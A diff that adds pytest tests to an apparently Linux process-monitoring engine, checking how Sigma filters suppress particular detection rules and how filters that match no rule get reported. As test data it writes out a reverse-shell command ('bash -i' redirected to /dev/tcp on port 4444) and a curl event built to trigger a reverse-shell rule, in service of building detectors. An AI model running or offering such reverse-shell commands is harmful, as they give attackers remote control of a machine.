@@ -368,3 +368,49 @@ def test_a_byte_that_is_not_utf8_in_argv_cannot_hide_a_command_from_any_rule_kin
     argv = ("bash", "-i\udcff", ">&", "/dev/tcp/10.0.0.1/4444")  # \xff from the kernel, surrogateescape'd
     engine.on_event(exec_event("/usr/bin/bash", argv))
     assert len(ctx.findings) == 4, [f.title for f in ctx.findings]
+
+
+FILTER = """
+title: the updater may use curl
+id: 0a0a0a0a-0000-4000-8000-0000000000f1
+logsource:
+    product: linux
+    category: process_creation
+filter:
+    rules:
+        - {target}
+    selection:
+        User: updater
+    condition: not selection
+"""
+
+
+def test_sigma_filter_silences_its_rule_for_what_it_names_and_nothing_else(start, tmp_path) -> None:
+    curl = rule(
+        "sel:\n  Image|endswith: /curl\ncondition: sel", rule_id="0a0a0a0a-0000-4000-8000-000000000001"
+    )
+    content = write_rules(
+        tmp_path / "c",
+        **{
+            "curl.yml": curl,
+            "rev.yml": REVSHELL_RULE,
+            "f.yml": FILTER.format(target="0a0a0a0a-0000-4000-8000-000000000001"),
+        },
+    )
+    engine, ctx = start(content)
+    assert engine.rules.filters == 1 and not engine.rules.issues
+    engine.on_event(exec_event("/usr/bin/curl", "curl -o /tmp/x http://h/ /dev/tcp/", user="updater"))
+    assert [f.fields["rule"] for f in ctx.findings] == [REVSHELL]  # only curl's rule is filtered
+    engine.on_event(exec_event("/usr/bin/curl", "curl x", user="mallory"))
+    assert ctx.findings[-1].fields["rule"] == "0a0a0a0a-0000-4000-8000-000000000001"
+
+
+def test_filter_that_applies_to_no_rule_is_reported(start, tmp_path) -> None:
+    content = write_rules(
+        tmp_path / "c",
+        **{"rev.yml": REVSHELL_RULE, "f.yml": FILTER.format(target="9a9a9a9a-0000-4000-8000-000000000009")},
+    )
+    engine, _ = start(content)
+    (issue,) = engine.rules.issues
+    assert issue.file.endswith("f.yml") and issue.rule == "0a0a0a0a-0000-4000-8000-0000000000f1"
+    assert issue.message == "filter applies to no loaded rule"
